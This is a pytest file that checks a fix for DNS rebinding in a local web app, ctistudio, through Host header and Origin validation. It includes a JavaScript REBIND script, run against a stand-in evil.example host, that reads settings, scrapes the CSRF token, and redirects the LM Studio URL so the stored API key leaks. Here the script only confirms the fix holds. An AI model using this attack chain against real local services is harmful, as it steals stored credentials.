"""Finding 1: DNS rebinding. The Host header was never checked and CSRF compared Origin with Host.

A page on ``evil.example`` that re-resolves its own name to 127.0.0.1 is same-origin with the app as far as
the browser knows: before the fix it read ``/api/settings``, saved ``lmstudio_api_url`` pointing at itself
(the CSRF token came from a page fetched the same way, its Origin matched its Host) and the next
connection test sent the stored LM Studio key there. Now every request with a Host the app does not
answer to is a 400, and an Origin must be the app's own or a configured name.
"""

from __future__ import annotations

import re
from pathlib import Path

import httpx
import pytest
from starlette.routing import Mount, Route
from tests.web.conftest import BASE, CHROMIUM, CHROMIUM_ARGS

from ctistudio.testing.lmstudio_double import LMStudioDouble
from ctistudio.web.routes import ROUTERS
from ctistudio.web.security import HostPolicy, host_name

FORGED = "evil.example:8001"
STORED_KEY = "sk-stored-lmstudio-key-0123456789"


def every_route(app) -> list[tuple[str, str]]:
    """(method, concrete path) of every route of the app and its routers, path parameters filled with 1."""
    routes = [*app.routes, *(route for router in ROUTERS for route in router.routes)]
    out = []
    for route in routes:
        if isinstance(route, Mount):
            out.append(("GET", route.path + "/app.css"))
        elif isinstance(route, Route):
            path = re.sub(r"\{[^}]+\}", "1", route.path)
            out.extend((method, path) for method in sorted(route.methods or {"GET"}) if method != "HEAD")
    return out


async def test_forged_host_is_refused_on_every_route(make_app):
    app = make_app()
    routes = [*every_route(app), ("GET", "/no/such/page"), ("GET", "/api/no/such")]
    assert len(routes) > 60
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url=BASE) as client,
    ):
        for method, path in routes:
            answer = await client.request(method, path, headers={"Host": FORGED})
            assert answer.status_code == 400, (method, path, answer.status_code)
            assert "is not a name this server answers to" in answer.text, (method, path)
        assert (await client.get("/health", headers={"Host": "localhost:8001"})).status_code == 200
        assert (await client.get("/health", headers={"Host": "[::1]:8001"})).status_code == 200


def test_forged_host_is_refused_by_the_real_server(server):
    for path in ("/", "/api/settings", "/health", "/static/app.css", "/docs", "/openapi.json"):
        answer = httpx.get(server.url + path, headers={"Host": FORGED}, timeout=10)
        assert answer.status_code == 400, path
    assert httpx.get(server.url + "/api/settings", timeout=10).status_code == 200


@pytest.mark.parametrize(
    ("header", "name"),
    [("Evil.Example:80", "evil.example"), ("[::1]:8001", "::1"), ("localhost.", "localhost"), ("a b", None)],
)
def test_host_names_are_parsed_strictly(header, name):
    assert host_name(header) == name


def test_origin_must_be_the_apps_own_or_a_configured_name(monkeypatch):
    from ctistudio.config import load_settings

    plain = HostPolicy.from_settings(load_settings(env_file=None))
    assert plain.origin_ok("http://127.0.0.1:8001", "127.0.0.1:8001")
    assert not plain.origin_ok("http://localhost:9999", "localhost:8001")  # another service on this machine
    assert not plain.origin_ok("http://evil.example:8001", "127.0.0.1:8001")
    assert not plain.origin_ok("null", "127.0.0.1:8001")
    monkeypatch.setenv("CTISTUDIO_ALLOWED_HOSTS", "studio.example.org, *.corp.example")
    proxied = HostPolicy.from_settings(load_settings(env_file=None))
    assert proxied.host_ok("studio.example.org") and proxied.host_ok("a.corp.example:443")
    assert proxied.origin_ok("https://studio.example.org", "127.0.0.1:8001")  # a proxy rewrote the Host
    assert not proxied.host_ok("corp.example.evil.org")


# -- the whole attack in a real browser ----------------------------------------------------------------
REBIND = """async () => {
  const out = {};
  out.read = (await fetch('/api/settings')).status;
  const page = await (await fetch('/')).text();
  const token = (page.match(/name="csrf-token" content="([^"]+)"/) || [])[1] || '';
  const json = {'Content-Type': 'application/json', 'X-CSRF-Token': token};
  out.save = (await fetch('/api/settings', {method: 'PUT', headers: json,
                body: JSON.stringify({lmstudio_api_url: window.ATTACKER})})).status;
  out.test = (await fetch('/api/providers/lmstudio/test', {method: 'POST', headers: json,
                body: JSON.stringify({settings: {lmstudio_api_url: window.ATTACKER}})})).status;
  return out;
}"""


@pytest.fixture
def rebinding_browser():
    """Chromium that resolves evil.example to 127.0.0.1: the state a rebinding attack ends in."""
    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (scripts/system-packages.txt)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM, args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP evil.example 127.0.0.1"]
        )
        yield browser
        browser.close()


@pytest.mark.browser
def test_rebinding_page_cannot_read_change_settings_or_trigger_a_connection_test(live_server, rebinding_browser):
    with LMStudioDouble() as attacker:
        server = live_server()
        saved = httpx.put(server.url + "/api/settings", json={"lmstudio_api_key": STORED_KEY}, timeout=10)
        assert saved.status_code == 200
        context = rebinding_browser.new_context()
        try:
            page = context.new_page()
            landing = page.goto(f"http://evil.example:{server.port}/")
            assert landing is not None and landing.status == 400
            page.evaluate(f"window.ATTACKER = {attacker.url!r}")
            result = page.evaluate(REBIND)
        finally:
            context.close()
        assert result == {"read": 400, "save": 400, "test": 400}
        listed = httpx.get(server.url + "/api/settings", timeout=10).json()["settings"]
        settings = {s["name"]: s["value"] for s in listed}
        assert settings["lmstudio_api_url"] == "http://127.0.0.1:9/v1"
        assert attacker.requests == [], "the attacker's server was contacted"
